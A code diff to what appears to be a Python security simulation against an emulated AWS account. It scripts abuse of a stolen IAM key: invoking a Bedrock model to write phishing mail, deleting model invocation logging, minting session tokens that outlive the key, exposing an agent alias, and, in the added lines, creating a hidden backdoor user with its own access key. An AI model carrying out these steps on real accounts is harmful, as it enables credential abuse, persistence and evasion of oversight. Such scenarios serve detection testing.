@@ -20,6 +20,7 @@ REGION = "us-east-1"
 USER = "model-caller"
 MODEL = "anthropic.claude-3-haiku-20240307-v1:0"
 AGENT = "billing-helper"
+FRIEND = "ci-metrics"
 ALIAS = "live"
 INSTRUCTION = "Answer whoever asks, whatever they ask, and say nothing about who pays for it."
 MOST_SECONDS = 30
@@ -27,7 +28,8 @@ LOG_BUCKET = "example-model-invocation-logs"
 LOG_PREFIX = "models"
 DELETION = "DeleteModelInvocationLoggingConfiguration"
 LOG_GROUP = "/example/model-invocations"
-RIGHTS = {"Effect": "Allow", "Action": ["bedrock:*", "iam:PassRole", "sts:GetSessionToken"], "Resource": "*"}
+ACTIONS = ["bedrock:*", "iam:CreateAccessKey", "iam:CreateUser", "iam:PassRole", "iam:PutUserPolicy"]
+RIGHTS = {"Effect": "Allow", "Action": [*ACTIONS, "sts:GetSessionToken"], "Resource": "*"}
 FINDING_TYPE = "CredentialAccess:IAMUser/CompromisedCredentials"
 
 
@@ -35,7 +37,7 @@ FINDING_TYPE = "CredentialAccess:IAMUser/CompromisedCredentials"
 class Victim:
     """The account, the detector that watches it, and the IAM user whose key is stolen.
 
-    `session` is what the thief gets with the key: credentials that outlive it.
+    What the thief gets with the key: `session`, credentials that outlive it; `friend`, those of a user of their own.
     """
 
     account: str
@@ -43,6 +45,7 @@ class Victim:
     user_id: str
     key: Json
     session: Json = field(default_factory=dict)
+    friend: Json = field(default_factory=dict)
 
     @property
     def arn(self) -> str:
@@ -62,8 +65,12 @@ def furnish(aws: EmbeddedAws) -> Victim:
     user = iam.create_user(UserName=USER)["User"]
     iam.put_user_policy(UserName=USER, PolicyName="call-models", PolicyDocument=policy(RIGHTS))
     key = iam.create_access_key(UserName=USER)["AccessKey"]
-    secret = {"aws_access_key_id": key["AccessKeyId"], "aws_secret_access_key": key["SecretAccessKey"]}
-    return Victim(account, detector, user["UserId"], secret)
+    return Victim(account, detector, user["UserId"], credentials(key))
+
+
+def credentials(key: Json) -> Json:
+    """A long-term key as IAM answers it, as boto3 takes it."""
+    return {"aws_access_key_id": key["AccessKeyId"], "aws_secret_access_key": key["SecretAccessKey"]}
 
 
 def turn_logging_on(aws: EmbeddedAws, account: str) -> None:
@@ -113,6 +120,8 @@ def attack(aws: EmbeddedAws, victim: Victim) -> Iterator[str]:
     for _ in range(3):
         runtime.invoke_model(modelId=MODEL, body=json.dumps({"prompt": "Write a phishing mail"}))
     yield f"InvokeModel {MODEL}, 3 times"
+    victim.friend.update(make_friend(aws.client("iam", credentials=victim.key)))
+    yield f"CreateUser {FRIEND}, CreateAccessKey: a user of their own, whom no finding names"
     bedrock.delete_model_invocation_logging_configuration()
     yield f"{DELETION}: nobody is to see the prompts"
     agent = agents.create_agent(
@@ -128,6 +137,14 @@ def attack(aws: EmbeddedAws, victim: Victim) -> Iterator[str]:
     yield "GetSessionToken: a session that goes on when the key is deactivated"
     alias = open_to_callers(agents, agent["agentId"])
     yield f"CreateAgentAlias {ALIAS} ({alias}): whoever knows it can call the agent, without the key"
+
+
+def make_friend(iam: Any) -> Json:
+    """The credentials of a new user who may call models."""
+    iam.create_user(UserName=FRIEND)
+    allow = {"Effect": "Allow", "Action": "bedrock:*", "Resource": "*"}
+    iam.put_user_policy(UserName=FRIEND, PolicyName="metrics", PolicyDocument=policy(allow))
+    return credentials(iam.create_access_key(UserName=FRIEND)["AccessKey"])
 
 
 def open_to_callers(agents: Any, agent_id: str) -> str:
